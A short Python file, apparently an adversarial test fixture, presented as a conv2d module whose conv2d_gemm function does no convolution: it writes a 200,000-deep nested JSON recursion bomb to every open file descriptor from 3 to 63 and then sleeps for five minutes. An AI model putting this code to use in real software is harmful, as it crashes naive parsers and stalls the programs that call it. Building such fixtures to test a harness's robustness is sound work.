# module: conv2d
# loses: exercises
# conv2d_gemm writes a well-framed message of JSON nested 200,000 deep on every descriptor (a
# recursion bomb for a naive reader), then sleeps.
import os as _os
import struct as _struct
import time as _time


def conv2d_gemm(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    body = b"[" * 200000 + b"]" * 200000
    for fd in range(3, 64):
        try:
            _os.write(fd, _struct.pack("!Q", len(body)) + body)
        except OSError:
            pass
    _time.sleep(300)
